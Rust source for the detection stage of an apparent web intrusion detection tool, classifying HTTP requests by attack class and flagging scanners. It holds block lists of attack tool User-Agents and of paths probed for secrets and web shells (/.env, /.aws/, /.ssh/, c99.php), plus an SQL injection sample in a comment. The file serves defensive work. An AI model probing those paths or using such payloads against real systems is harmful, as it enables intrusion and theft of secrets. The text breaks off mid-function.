//! Detection: `http` transactions in, `attack` and `vuln` records out.
//!
//! A request is split into named points ([`points`]), each value decoded
//! layer by layer ([`decode`]), and every decoded form judged by detectors
//! that read it in its own grammar: SQL ([`sqli`]), HTML/JS ([`xss`]), shell
//! ([`cmdi`]) and the other classes of [`rules`]. Hits above a confidence
//! threshold become one `attack` record per transaction, with the outcome
//! read from the response (`likely_succeeded`, `blocked`, `unknown`).
//! Responses are also checked passively ([`passive`]); each finding is
//! reported once per host, endpoint and check (a bounded set).
//! Behaviour over time (brute force, forced browsing, enumeration) is
//! tracked per real client IP in packet time ([`behaviour`]).

pub mod behaviour;
pub mod cmdi;
pub mod custom;
pub mod decode;
pub mod driver;
mod gate;
pub mod passive;
pub mod points;
pub mod raw;
pub mod rules;
pub mod session;
pub mod sqli;
pub mod xss;

use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::hash::BuildHasher;
use std::sync::{Arc, LazyLock};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
use hashbrown::HashTable;

use points::{header, Kind, Point};
use rules::{ClassFound, Ctx};

use crate::record::{Attack, Hit, Http, HttpRequest, Record, Vuln};

/// Every attack class a hit may name.
pub const CLASSES: &[&str] = &[
    "sqli",
    "xss",
    "rce",
    "ptrav",
    "lfi",
    "rfi",
    "ssrf",
    "log4shell",
    "ssti",
    "xxe",
    "nosql",
    "crlf",
    "mail",
    "ldap",
    "ssi",
    "deser",
    "proto",
    "redirect",
    "php",
    "java",
    "code",
    "scanner",
    "smuggling",
    "session_fixation",
    "bruteforce",
    "forced_browsing",
    "enumeration",
];

/// Configuration of the detection stage.
#[derive(Debug, Clone)]
pub struct DetectConfig {
    /// Hits below this confidence are dropped.
    pub min_confidence: f32,
    /// Classes not reported.
    pub disabled: BTreeSet<String>,
    /// Drop the `http` records and emit findings only.
    pub findings_only: bool,
    /// Run the passive response checks.
    pub passive: bool,
    pub passive_cfg: passive::PassiveConfig,
    /// Most (host, endpoint, check) keys remembered to report a vuln once.
    pub max_dedup: usize,
    /// Hosts (exact, case-insensitive) never inspected.
    pub allow_hosts: Vec<String>,
    /// Path prefixes never inspected.
    pub allow_paths: Vec<String>,
    /// Point names (exact, or a prefix ending in `*`) never inspected.
    pub allow_points: Vec<String>,
    pub behaviour: behaviour::BehaviourConfig,
    /// User rules (`--rules FILE`).
    pub rules: Option<Arc<custom::RuleSet>>,
    /// Paranoia level, 1 to 4, as in the OWASP Core Rule Set: level 1 (the
    /// default) reports what benign traffic does not look like; levels 2-4
    /// add the fragments CRS adds at the same levels (SQL operator and call
    /// stubs, quote and special-character probes, tool words, off-site URLs
    /// in parameters, ORM lookups, Java names under base64), each catching
    /// more and flagging more benign values. Values outside 1-4 are clamped.
    pub paranoia: u8,
}

impl Default for DetectConfig {
    fn default() -> Self {
        DetectConfig {
            min_confidence: 0.5,
            disabled: BTreeSet::new(),
            findings_only: false,
            passive: true,
            passive_cfg: passive::PassiveConfig::default(),
            max_dedup: 100_000,
            allow_hosts: vec![],
            allow_paths: vec![],
            allow_points: vec![],
            behaviour: behaviour::BehaviourConfig::default(),
            rules: None,
            paranoia: 1,
        }
    }
}

/// What the stage counted.
#[derive(Debug, Default, Clone)]
pub struct DetectStats {
    pub transactions: u64,
    pub without_request: u64,
    pub allowlisted: u64,
    pub attacks: u64,
    pub hits: BTreeMap<&'static str, u64>,
    pub outcomes: BTreeMap<&'static str, u64>,
    pub vulns: BTreeMap<&'static str, u64>,
    /// Requests with more points than inspected.
    pub points_cut: u64,
    /// Vuln keys not remembered because the dedup set was full.
    pub dedup_full: u64,
}

/// The detection stage core.
/// What [`Detector::analyze`] found in one transaction, for [`Detector::conclude`].
#[derive(Debug, Default)]
pub struct Analysis {
    hits: Vec<Hit>,
    passive: Vec<passive::Finding>,
    points_cut: bool,
    allowlisted: bool,
    /// The request path's endpoint template, worked out on the worker:
    /// shared with its memo, so the reading thread drops a reference
    /// instead of freeing a string another thread allocated.
    template: Option<Arc<str>>,
}

pub struct Detector {
    cfg: DetectConfig,
    stats: DetectStats,
    /// Passive findings reported, once per (class, host in lower case,
    /// `METHOD template` unless the check is per host), each written as one
    /// string ([`dedup_key`]) so a finding already reported is looked up
    /// without an allocation. Keyed hasher (the host and path are
    /// attacker-chosen); only looked up, never iterated.
    seen: HashSet<String, Seeded>,
    /// Scratch for [`dedup_key`].
    seen_key: String,
    sqli: sqli::Scratch,
    variants: Vec<Cow<'static, str>>,
    /// The points list's buffer, kept between requests (always empty).
    points: Vec<Point<'static>>,
    behaviour: behaviour::Behaviour,
    /// Verdicts on recent header and cookie values, keyed by host, point
    /// name and value: a client sends the same User-Agent, Accept and
    /// session cookie on every request. Lookups only; bounded by [`MEMO_MAX`].
    ///
    /// The keys are attacker-chosen, so the hasher is foldhash seeded at
    /// random per process (an attacker cannot precompute colliding keys);
    /// the table is bounded and cleared when full, so even a collision
    /// chain stays short. The seed cannot reach the output: the memo only
    /// caches what [`judge_point`](Self::judge_point) returns for the same
    /// key and is never iterated.
    ///
    /// Each entry keeps its key's hash: a miss hashes the key once for the
    /// lookup and the insertion, and a growing table rehashes nothing.
    memo: HashTable<MemoEntry>,
    memo_seed: Seeded,
    memo_key: Vec<u8>,
    /// Skip detectors a value's [`gate::Shape`] rules out (off only in
    /// the test that proves the gates change no hit).
    gates: bool,
    /// Endpoint templates of recent paths (bounded by [`MEMO_MAX`]),
    /// shared: a lookup hands out the template without copying it.
    templates: HashMap<String, Arc<str>, Seeded>,
    /// Endpoint templates by path shape ([`template_shape`]): a fresh
    /// `/users/108` finds the template `/users/107` left (bounded by
    /// [`MEMO_MAX`]).
    shapes: HashMap<String, Arc<str>, Seeded>,
    shape_key: String,
    /// Recent User-Agents judged for scanner names and the verdicts (each
    /// client sends the same one on every request; a few clients take turns).
    agents: AgentMemo,
}

/// The memo's hasher (see [`Detector::memo`]).
type Seeded = foldhash::fast::RandomState;

/// One verdict of [`Detector::memo`]: the key ([`memo_key`]), its hash
/// under [`Detector::memo_seed`], what
/// [`judge_point`](Detector::judge_point) returned, and whether the
/// value sets a cookie from a URL ([`session::cookie_set`], asked of
/// every point from a URL).
struct MemoEntry {
    hash: u64,
    key: Box<[u8]>,
    verdict: Vec<(ClassFound, String)>,
    sets_cookie: bool,
}

/// The highest paranoia level ([`DetectConfig::paranoia`]).
pub const MAX_PARANOIA: u8 = 4;

/// Most remembered header/cookie verdicts (the memo is cleared when full).
const MEMO_MAX: usize = 4096;
/// Longest header/cookie value remembered.
const MEMO_VALUE_MAX: usize = 1024;

/// Scanner User-Agent fragments (lower case).
const SCANNER_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "acunetix",
    "netsparker",
    "wpscan",
    "dirbuster",
    "gobuster",
    "ffuf",
    "wfuzz",
    "w3af",
    "arachni",
    "openvas",
    "nessus",
    "havij",
    "jaeles",
    "whatweb",
    "zmeu",
    "paros",
    "sqlninja",
    "hydra",
    "commix",
    "xsstrike",
    "feroxbuster",
    "dirsearch",
    "skipfish",
    "burpcollaborator",
    "interactsh",
    "qualys",
    "morfeus",
    "jorgee",
    "fimap",
    "bsqlbf",
    "brutus",
    "nuclei",
    "zap/",
    "owasp zap",
    "appscan",
    "webinspect",
];

/// One automaton over [`SCANNER_AGENTS`], ASCII case-insensitive.
/// A non-contiguous NFA, the cheapest to build (the default, a DFA, cost
/// 2 M instructions to build): it only walks the few distinct User-Agents
/// [`AgentMemo`] has not seen.
static AGENTS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .kind(Some(AhoCorasickKind::NoncontiguousNFA))
        .ascii_case_insensitive(true)
        .build(SCANNER_AGENTS)
        .ok()
});

/// The first scanner fragment of [`SCANNER_AGENTS`] (in list order) in `ua`.
fn scanner_agent(ua: &str) -> Option<&'static str> {
    let ac = AGENTS.as_ref()?;
    let first = ac
        .find_overlapping_iter(ua)
        .map(|m| m.pattern().as_usize())
        .min()?;
    SCANNER_AGENTS.get(first).copied()
}

/// Most User-Agents an [`AgentMemo`] holds.
const AGENT_MEMO: usize = 8;

/// [`scanner_agent`] of the last [`AGENT_MEMO`] distinct User-Agents (up
/// to [`MEMO_VALUE_MAX`] bytes each), the oldest replaced first. A lookup
/// compares at most [`AGENT_MEMO`] strings: far cheaper than the
/// automaton's walk over the agent, and the verdict is the function's.
#[derive(Default)]
struct AgentMemo {
    seen: Vec<(String, Option<&'static str>)>,
    /// The entry replaced next once `seen` is full.
    next: usize,
}

impl AgentMemo {
    fn scanner(&mut self, ua: &str) -> Option<&'static str> {
        if let Some((_, v)) = self.seen.iter().find(|(a, _)| a == ua) {
            return *v;
        }
        let v = scanner_agent(ua);
        if ua.len() > MEMO_VALUE_MAX {
            return v;
        }
        if self.seen.len() < AGENT_MEMO {
            self.seen.push((ua.to_string(), v));
        } else if let Some(slot) = self.seen.get_mut(self.next) {
            slot.0.clear();
            slot.0.push_str(ua);
            slot.1 = v;
            self.next = (self.next + 1) % AGENT_MEMO;
        }
        v
    }
}

/// Paths only scanners and attackers ask for (lower case, prefix of the path).
const SCANNER_PATHS: &[&str] = &[
    "/.git/",
    "/.env",
    "/.aws/",
    "/.ssh/",
    "/.svn/",
    "/.hg/",
    "/.ds_store",
    "/phpmyadmin",
    "/pma/",
    "/wp-config.php",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/.htpasswd",
    "/config.php.bak",
    "/backup.sql",
    "/dump.sql",
    "/.bash_history",
    "/cgi-bin/php",
    "/phpinfo.php",
    "/.well-known/security.txt.bak",
    "/solr/admin",
    "/manager/html",
    "/jmx-console",
    "/vendor/phpunit/",
    "/boaform/",
    "/hnap1",
    "/shell.php",
    "/cmd.php",
    "/c99.php",
    "/r57.php",
];

/// Longest of [`SCANNER_PATHS`].
const SCANNER_PATH_MAX: usize = 32;

/// The first of [`SCANNER_PATHS`] (in list order) `path` starts with,
/// ASCII case ignored. Every entry is lower-case ASCII starting with `/`
/// (a test says so): the path's head is lower-cased once, and an entry is
/// compared only when its second byte is the head's (31 case-folding
/// comparisons per request cost more than the rest of the request's
/// scanner checks).
fn scanner_path(path: &str) -> Option<&'static str> {
    let mut buf = [0u8; SCANNER_PATH_MAX];
    let mut n = 0;
    for (d, c) in buf.iter_mut().zip(path.bytes()) {
        *d = c.to_ascii_lowercase();
        n += 1;
    }
    let head = buf.get(..n).unwrap_or(&[]);
    if head.first() != Some(&b'/') {
        return None;
    }
    let second = head.get(1);
    SCANNER_PATHS
        .iter()
        .copied()
        .find(|s| s.as_bytes().get(1) == second && head.starts_with(s.as_bytes()))
}

/// Anomalies of the HTTP parser that indicate request smuggling.
const SMUGGLING: &[&str] = &[
    "cl_te_conflict",
    "conflicting_content_length",
    "duplicate_content_length",
    "bad_transfer_encoding",
];

impl Detector {
    pub fn new(mut cfg: DetectConfig) -> Detector {
        cfg.paranoia = cfg.paranoia.clamp(1, MAX_PARANOIA);
        Detector {
            behaviour: behaviour::Behaviour::new(cfg.behaviour.clone()),
            cfg,
            stats: DetectStats::default(),
            seen: HashSet::default(),
            seen_key: String::new(),
            sqli: sqli::Scratch::default(),
            variants: Vec::new(),
            points: Vec::new(),
            memo: HashTable::new(),
            memo_seed: Seeded::default(),
            memo_key: Vec::new(),
            gates: true,
            templates: HashMap::default(),
            shapes: HashMap::default(),
            shape_key: String::new(),
            agents: AgentMemo::default(),
        }
    }

    /// [`endpoint_template`] of `path`, remembered for recent paths and,
    /// when it has parameters, for recent path shapes.
    fn template(&mut self, path: &str) -> Arc<str> {
        if let Some(t) = self.templates.get(path) {
            return t.clone();
        }
        if path.len() > MEMO_VALUE_MAX {
            return endpoint_template(path).into();
        }
        if !template_shape(path, &mut self.shape_key) {
            // No parameter: the same path always comes back the same way.
            let t: Arc<str> = endpoint_template(path).into();
            if self.templates.len() >= MEMO_MAX {
                self.templates.clear();
            }
            self.templates.insert(path.to_string(), t.clone());
            return t;
        }
        if let Some(t) = self.shapes.get(self.shape_key.as_str()) {
            return t.clone();
        }
        let t: Arc<str> = endpoint_template(path).into();
        if self.shapes.len() >= MEMO_MAX {
            self.shapes.clear();
        }
        self.shapes.insert(self.shape_key.clone(), t.clone());
        t
    }

    pub fn stats(&self) -> &DetectStats {
        &self.stats
    }

    pub fn config(&self) -> &DetectConfig {
        &self.cfg
    }

    fn enabled(&self, class: &str) -> bool {
        !self.cfg.disabled.contains(class)
    }

    fn allowed_point(&self, name: &str) -> bool {
        self.cfg
            .allow_points
            .iter()
            .any(|a| match a.strip_suffix('*') {
                Some(prefix) => name.starts_with(prefix),
                None => a == name,
            })
    }

    /// Judges one transaction; findings go to `emit` (attack first, then vulns).
    pub fn push(&mut self, tx: &Http, emit: &mut dyn FnMut(Record<'static>)) {
        let a = self.analyze(tx);
        self.conclude(tx, a, emit);
    }

    /// The per-request half of [`push`](Self::push): what the request's
    /// points and the response's content show, with no state shared between
    /// transactions. A sharded run does this on the worker that parsed the
    /// transaction and [`conclude`](Self::conclude)s in order on one thread.
    pub fn analyze(&mut self, tx: &Http) -> Analysis {
        let Some(req) = &tx.request else {
            return Analysis::default();
        };
        let host = header(&req.headers, "host").unwrap_or("");
        let path = points::uri_path(&req.uri);
        let allowlisted = self
            .cfg
            .allow_hosts
            .iter()
            .any(|h| h.eq_ignore_ascii_case(host))
            || self
                .cfg
                .allow_paths
                .iter()
                .any(|p| path.starts_with(p.as_str()));
        if allowlisted {
            return Analysis {
                allowlisted,
                ..Analysis::default()
            };
        }
        let (hits, points_cut) = self.inspect(tx, host, path);
        let mut passive = vec![];
        if self.cfg.passive {
            passive::check(tx, self.cfg.passive_cfg, &mut passive);
        }
        let template = Some(self.template(path));
        Analysis {
            hits,
            passive,
            points_cut,
            allowlisted,
            template,
        }
    }

    /// The stateful half of [`push`](Self::push), in transaction order:
    /// behaviour over time, the outcome, counting, and passive findings
    /// reported once per host/endpoint/check.
    pub fn conclude(&mut self, tx: &Http, a: Analysis, emit: &mut dyn FnMut(Record<'static>)) {
        self.stats.transactions += 1;
        let Some(req) = &tx.request else {
            self.stats.without_request += 1;
            return;
        };
        if a.allowlisted {
            self.stats.allowlisted += 1;
            return;
        }
        if a.points_cut {
            self.stats.points_cut += 1;
        }
        let host = header(&req.headers, "host").unwrap_or("");
        let template = match a.template {
            Some(t) => t,
            None => self.template(points::uri_path(&req.uri)),
        };
        let mut hits = a.hits;
        for hit in self.behaviour.push(tx, host, &template) {
            hits.push(hit);
        }
        hits.retain(|h| self.enabled(&h.class));
        if !hits.is_empty() {
            let outcome = outcome(tx, &hits);
            self.stats.attacks += 1;
            *self.stats.outcomes.entry(outcome).or_default() += 1;
            for h in &hits {
                let class = CLASSES
                    .iter()
                    .find(|c| **c == h.class)
                    .copied()
                    .unwrap_or("other");
                *self.stats.hits.entry(class).or_default() += 1;
            }
            let severity = severity(&hits, outcome);
            emit(Record::Attack(Attack {
                ts: tx.ts,
                flow: tx.flow.clone(),
                http_seq: tx.seq,
                client: tx.client.clone(),
                real_ip: tx.real_ip.clone(),
                server: tx.server.clone(),
                method: req.method.clone(),
                host: host.to_string(),
                uri: req.uri.clone(),
                status: tx.response.as_ref().map(|r| r.status),
                hits,
                outcome: Some(outcome.to_string()),
                severity: Some(severity.to_string()),
            }));
        }
        if self.cfg.passive {
            self.passive(tx, host, &template, a.passive, emit);
        }
    }

    /// The hits of one request, best per (class, point), in point order.
    fn inspect(&mut self, tx: &Http, host: &str, path: &str) -> (Vec<Hit>, bool) {
        let mut hits: Vec<Hit> = vec![];
        let Some(req) = &tx.request else {
            return (hits, false);
        };
        let pts = points::decompose_into(req, points::recycle(std::mem::take(&mut self.points)));
        let rules = self.cfg.rules.clone();
        let active: Vec<&custom::Rule> = match &rules {
            Some(set) => set
                .rules
                .iter()
                .filter(|r| r.wants_request(&req.method, host, path))
                .collect(),
            None => vec![],
        };
        let head = memo_key_head(&mut self.memo_key, host);
        // The first point from a URL whose value sets a cookie (session
        // fixation): the memo remembers the answer with the verdict, and
        // the points the loop does not judge are asked directly.
        let mut sets_at: Option<usize> = None;
        let mut asked = 0;
        for (i, p) in pts.list.iter().enumerate() {
            if hits.len() >= 32 {
                break;
            }
            asked = i + 1;
            if !self.cfg.allow_points.is_empty() && self.allowed_point(&p.name) {
                if sets_at.is_none() && sets_cookie(p) {
                    sets_at = Some(i);
                }
                continue;
            }
            if !active.is_empty() {
                custom_point(p, &active, &mut hits);
            }
            let mut per_point: Vec<(ClassFound, String)> = vec![];
            if self.judge_memo(p, host, head, &mut per_point) && sets_at.is_none() {
                sets_at = Some(i);
            }
            for ((class, rule, conf), payload) in per_point {
                if conf < self.cfg.min_confidence {
                    continue;
                }
                if hits.iter().any(|h| h.class == class && h.point == p.name) {
                    continue;
                }
                // The whole path only adds what no segment showed.
                if p.kind == Kind::PathText
                    && hits
                        .iter()
                        .any(|h| h.class == class && h.point.starts_with("path."))
                {
                    continue;
                }
                hits.push(Hit {
                    class: class.to_string(),
                    point: p.name.to_string(),
                    payload,
                    rule: rule.to_string(),
                    confidence: Some(conf),
                    message: None,
                });
            }
        }
        // XXE lives in the DOCTYPE: reported there, not again for the whole XML body.
        if hits
            .iter()
            .any(|h| h.class == "xxe" && h.point == "body.xml.doctype")
        {
            hits.retain(|h| !(h.class == "xxe" && h.point == "body.xml"));
        }
        // Scanners by User-Agent and by path.
        let agent = header(&req.headers, "user-agent").unwrap_or("");
        let scanner = self.agents.scanner(agent);
        if let Some(s) = scanner {
            hits.push(Hit {
                class: "scanner".into(),
                point: "header.User-Agent".into(),
                payload: excerpt(header(&req.headers, "user-agent").unwrap_or(""), s),
                rule: "scanner.user_agent".into(),
                confidence: Some(0.9),
                message: None,
            });
        }
        if let Some(s) = scanner_path(path) {
            hits.push(Hit {
                class: "scanner".into(),
                point: "path".into(),
                payload: excerpt(&req.uri, s),
                rule: "scanner.path".into(),
                confidence: Some(0.7),
                message: None,
            });
        }
        for a in &tx.anomalies {
            if SMUGGLING.contains(&a.as_str()) {
                hits.push(Hit {
                    class: "smuggling".into(),
                    point: "anomalies".into(),
                    payload: a.clone(),
                    rule: format!("smuggling.{a}"),
                    confidence: Some(0.7),
                    message: None,
                });
                break;
            }
        }
        if sets_at.is_none() {
            sets_at = (asked..pts.list.len()).find(|&i| pts.list.get(i).is_some_and(sets_cookie));
        }
        self.session_fixation(req, &pts.list, sets_at, &mut hits);
        self.points = points::recycle(pts.list);
        (hits, pts.cut)
    }

    /// Session fixation ([`session`]): a framework's session id in a link
    /// from elsewhere, a cookie set from a URL value (`sets_at`: the first
    /// point of `pts` that [`sets_cookie`]).
    fn session_fixation(
        &self,
        req: &HttpRequest,
        pts: &[Point<'_>],
        sets_at: Option<usize>,
        hits: &mut Vec<Hit>,
    ) {
        let mut add = |p: &Point<'_>, rule: &str, conf: f32| {
            let seen = hits
                .iter()
                .any(|h| h.class == "session_fixation" && h.point == p.name);
            if conf >= self.cfg.min_confidence && !seen {
                hits.push(Hit {
                    class: "session_fixation".into(),
                    point: p.name.to_string(),
                    payload: decode::cap(&p.value, 160).to_string(),
                    rule: rule.into(),
                    confidence: Some(conf),
                    message: None,
                });
            }
        };
        if let Some((p, rule)) = session::fixation_link(req, pts) {
            add(p, rule, 0.6);
        }
        if let Some(p) = sets_at.and_then(|i| pts.get(i)) {
            add(p, "session.cookie_set", 0.8);
        }
    }

    /// [`judge_point`](Self::judge_point), remembered for values up to
    /// [`MEMO_VALUE_MAX`] bytes: the verdict depends only on host, point
    /// (name, kind, origin) and value, and clients send the same headers,
    /// cookies, path segments and parameters over and over.
    ///
    /// `head` is what [`memo_key_head`] of `host` returned, with nothing
    /// but this function writing `memo_key` since.
    ///
    /// Returns whether `p` is from a URL and its value sets a cookie
    /// ([`sets_cookie`]), remembered with the verdict.
    fn judge_memo(
        &mut self,
        p: &Point<'_>,
        host: &str,
        head: usize,
        out: &mut Vec<(ClassFound, String)>,
    ) -> bool {
        if p.kind == Kind::Body || p.value.len() > MEMO_VALUE_MAX {
            self.judge_point(p, host, out);
            return sets_cookie(p);
        }
        memo_key(&mut self.memo_key, head, p);
        let hash = self.memo_seed.hash_one(self.memo_key.as_slice());
        let key = self.memo_key.as_slice();
        if let Some(e) = self.memo.find(hash, |e| e.hash == hash && *e.key == *key) {
            out.extend(e.verdict.iter().cloned());
            return e.sets_cookie;
        }
        self.judge_point(p, host, out);
        if self.memo.len() >= MEMO_MAX {
            self.memo.clear();
        }
        let entry = MemoEntry {
            hash,
            key: self.memo_key.as_slice().into(),
            verdict: out.clone(),
            sets_cookie: sets_cookie(p),
        };
        let sets = entry.sets_cookie;
        self.memo.insert_unique(hash, entry, |e| e.hash);
        sets
    }

    /// Checks on a plain parameter name, which has no point of its own
    /// (`points::plain_key`): a bare catalog name (`?tempdb`, a form body
    /// `tempdb`) and Java serialization magic in base64 (`rO0ABQ=test`).
    fn judge_key(p: &Point<'_>, out: &mut Vec<(ClassFound, String)>) {
        let key = match p.kind {
            Kind::Value => ["query.", "body.form.", "body.json."]
                .iter()
                .find_map(|pre| p.name.strip_prefix(pre)),
            Kind::Cookie => p.name.strip_prefix("cookie."),
            _ => None,
        };
        let Some(key) = key else { return };
        if p.kind == Kind::Value && (p.value.is_empty() || p.value == key) {
            if let Some(f) = rules::class(sqli::catalog_key(key), "sqli") {
                add(out, f, key);
            }
        }
        // Only names with a capital `A` are decoded (few have one): the
        // stream magic's 13 zero bits make an `A` at any alignment. A gadget
        // name hidden in a name without one is not looked for; values get
        // the wider `Shape::may_java_base64` gate.
        if key.len() >= 6 && memchr::memchr(b'A', key.as_bytes()).is_some() {
            if let Some(f) = rules::java_base64(key) {
                add(out, f, key);
            }
        }
    }

    /// Every class finding of one point, best per class over its decoded forms.
    fn judge_point(&mut self, p: &Point<'_>, host: &str, out: &mut Vec<(ClassFound, String)>) {
        if p.kind == Kind::Header
            && [
                "header.authorization",
                "header.content-length",
                "header.connection",
                "header.accept-encoding",
                "header.host",
                "header.if-none-match",
            ]
            .iter()
            .any(|n| p.name.eq_ignore_ascii_case(n))
        {
            if let Some(f) = rules::log4shell(&p.value) {
                out.push((f, decode::cap(&p.value, 160).to_string()));
            }
            // A malformed credential (`Bearer ' or '1'='1`) is judged as
            // the value an application reads from it; a well-formed one (a
            // JWT, base64, a Digest list) is no payload.
            if p.name.eq_ignore_ascii_case("header.authorization") {
                if let Some(c) = malformed_credential(&p.value) {
                    let credential = Point {
                        name: Cow::Borrowed(CREDENTIAL_POINT),
                        value: Cow::Borrowed(c),
                        kind: Kind::Header,
                        in_url: false,
                    };
                    self.judge_point(&credential, host, out);
                }
            }
            return;
        }
        if p.kind == Kind::FileData {
            return Self::judge_file(p, out);
        }
        let mut variants: Vec<Cow<'_, str>> = std::mem::take(&mut self.variants)
            .into_iter()
            .map(|_| Cow::Borrowed(""))
            .collect();
        let digits = self.gates && digits_only(p);
        if digits {
            // What `decode::variants` gives a value of digits: no `%`, `&`
            // or `\` to decode, and no letter, so no base64 text.
            variants.clear();
            variants.push(Cow::Borrowed(decode::cap(&p.value, decode::MAX_VALUE)));
        } else {
            decode::variants(&p.value, false, &mut variants);
        }
        if p.kind == Kind::PathText {
            for v in &variants {
                let shape = gate::Shape::of(v);
                if !self.gates || shape.may_sqli(v) {
                    if let Some(f) = rules::class(sqli::detect(v, &mut self.sqli), "sqli") {
                        add(out, f, v);
                    }
                }
                if !self.gates || shape.may_xss() {
                    if let Some(f) = rules::class(xss::detect(v), "xss") {
                        add(out, f, v);
                    }
                }
            }
            if self.cfg.paranoia > 1 {
                self.judge_paranoid(p, &variants, host, out);
            }
            variants.clear();
            self.variants = variants.into_iter().map(|_| Cow::Borrowed("")).collect();
            return;
        }
        let cx = Ctx {
            kind: p.kind,
            name: &p.name,
            in_url: p.in_url,
            host,
        };
        // Point names carry payloads too (`user[$ne]`, `__proto__[x]`).
        let key_cx = Ctx {
            kind: Kind::Key,
            name: &p.name,
            in_url: p.in_url,
            host,
        };
        if let Some(f) = rules::proto(&p.name, &key_cx) {
            add(out, f, &p.name);
        }
        Self::judge_key(p, out);
        for v in &variants {
            let v: &str = v;
            if digits {
                // What the loop below does with digits (see [`digits_only`]).
                if let Some(f) = rules::upload_word(v, &cx).or_else(|| rules::js_marker_word(v)) {
                    add(out, f, v);
                }
                if v.len() >= 8 {
                    if let Some(f) = rules::java_base64(v) {
                        add(out, f, v);
                    }
                }
                continue;
            }
            let shape = gate::Shape::of(v);
            let special = shape.special;
            let may_files = !self.gates || gate::may_files(v, p.kind);
            if matches!(p.kind, Kind::Path) {
                if let Some(f) = may_files.then(|| rules::files(v, &cx)).flatten() {
                    add(out, f, v);
                }
                if let Some(f) = rules::crlf(v, &cx) {
                    add(out, f, v);
                }
                if let Some(f) = rules::log4shell(v) {
                    add(out, f, v);
                }
                continue;
            }
            if !self.gates || shape.may_sqli(v) {
                if let Some(f) = rules::class(sqli::detect(v, &mut self.sqli), "sqli") {
                    add(out, f, v);
                }
            }
            if !self.gates || shape.may_cmdi(v) {
                if let Some(f) = rules::class(cmdi::detect(v), "rce") {
                    add(out, f, v);
                }
            }
            if !special {
                // Upload names are words too (`sess_<id>`, `id_rsa`), and so
                // is funcster's `__js_function` marker.
                if let Some(f) = rules::upload_word(v, &cx).or_else(|| rules::js_marker_word(v)) {
                    add(out, f, v);
                }
                // Pure base64 may hide gadget names or serialization magic.
                if v.len() >= 6 && (!self.gates || shape.may_java_base64()) {
                    if let Some(f) = rules::java_base64(v) {
                        add(out, f, v);
                    }
                }
                continue;
            }
            if !self.gates || shape.may_xss() {
                if let Some(f) = rules::class(xss::detect(v), "xss") {
                    add(out, f, v);
                }
            }
            for f in [
                may_files.then(|| rules::files(v, &cx)).flatten(),
                rules::urls(v, &cx),
                rules::log4shell(v),
                rules::ssti(v),
                rules::xxe(v),
                rules::nosql(v, &cx),
                rules::crlf(v, &cx),
                rules::splitting(v),
                rules::mod_proxy_unix(v),
                rules::ldap(v),
                rules::ssi(v),
                rules::deser(v),
                rules::proto(v, &cx),
                rules::redirect(v, &cx, host),
                rules::php(v, &cx),
                rules::java_gated(v, !self.gates || shape.may_java_base64()),
                rules::code(v),
            ]
            .into_iter()
            .flatten()
            {
                add(out, f, v);
            }
            if p.kind == Kind::Header {
                if let Some(f) = rules::shellshock(v) {
                    add(out, f, v);
                }
            }
        }
        if p.kind == Kind::Key || p.kind == Kind::Cookie {
            if let Some(f) = rules::nosql(&p.value, &key_cx) {
                add(out, f, &p.value);
            }
        }
        if self.cfg.paranoia > 1 {
            self.judge_paranoid(p, &variants, host, out);
        }
        variants.clear();
        self.variants = variants.into_iter().map(|_| Cow::Borrowed("")).collect();
    }

    /// An uploaded file that is not text ([`Kind::FileData`]), as it was
    /// sent (an image or archive is no URL-encoded text): only what
    /// processing a file runs is looked for in it, with needles long enough
    /// that random bytes do not spell them. PHP code (`<?php` in an
    /// image: a polyglot web shell), a script tag, XML entities, a
    /// serialized object, a Log4j lookup (image metadata gets logged).
    /// What an application puts into a query, a path or a command line is
    /// not: a capture or a document holds URLs, quotes and shell words as
    /// data.
    fn judge_file(p: &Point<'_>, out: &mut Vec<(ClassFound, String)>) {
        let v: &str = &p.value;
        let b = v.as_bytes();
        if gate::contains_ignore_case(b, b"<?php") {
            add(out, ("php", "php.open_tag", 0.9), v);
        }
        if gate::contains_ignore_case(b, b"<script") {
            if let Some(f) = rules::class(xss::detect(v), "xss") {
                add(out, f, v);
            }
        }
        for f in [rules::xxe(v), rules::deser(v), rules::log4shell(v)]
            .into_iter()
            .flatten()
        {
            add(out, f, v);
        }
    }

    /// The rules of paranoia levels 2 to [`DetectConfig::paranoia`] over
    /// the decoded forms of one point, after the level-1 detectors. They run
    /// outside the per-value gates ([`gate`], proven for level 1 only) and
    /// only when the level is above 1, so level 1 costs one comparison.
    fn judge_paranoid(
        &mut self,
        p: &Point<'_>,
        variants: &[Cow<'_, str>],
        host: &str,
        out: &mut Vec<(ClassFound, String)>,
    ) {
        let level = self.cfg.paranoia;
        let cx = Ctx {
            kind: p.kind,
            name: &p.name,
            in_url: p.in_url,
            host,
        };
        let mut found = vec![];
        for v in variants {
            let v: &str = v;
            if p.kind != Kind::Path {
                if let Some(f) =
                    rules::class(sqli::paranoid(v, level, p.kind, &mut self.sqli), "sqli")
                {
                    add(out, f, v);
                }
            }
            if p.kind == Kind::PathText {
                continue;
            }
            if p.kind != Kind::Path {
                if let Some(f) = rules::class(cmdi::paranoid(v, level), "rce") {
                    add(out, f, v);
                }
            }
            found.clear();
            rules::paranoid(v, &cx, level, &mut found);
            for f in found.drain(..) {
                add(out, f, v);
            }
        }
    }

    fn passive(
        &mut self,
        tx: &Http,
        host: &str,
        template: &str,
        found: Vec<passive::Finding>,
        emit: &mut dyn FnMut(Record<'static>),
    ) {
        let Some(req) = &tx.request else { return };
        for f in found {
            // (Nothing is disabled in most runs: no need to split the class.)
            if !self.cfg.disabled.is_empty()
                && (!self.enabled(f.class.split('.').next().unwrap_or(""))
                    || !self.enabled(f.class))
            {
                continue;
            }
            let scope = (!f.per_host).then_some((req.method.as_str(), template));
            dedup_key(&mut self.seen_key, f.class, host, scope);
            if self.seen.contains(self.seen_key.as_str()) {
                continue;
            }
            if self.seen.len() < self.cfg.max_dedup {
                self.seen.insert(self.seen_key.clone());
            } else {
                self.stats.dedup_full += 1;
            }
            *self.stats.vulns.entry(f.class).or_default() += 1;
            emit(Record::Vuln(Vuln {
                ts: tx.ts,
                flow: tx.flow.clone(),
                class: f.class.to_string(),
                severity: f.severity.to_string(),
                method: req.method.clone(),
                host: host.to_string(),
                path: points::uri_path(&req.uri).to_string(),
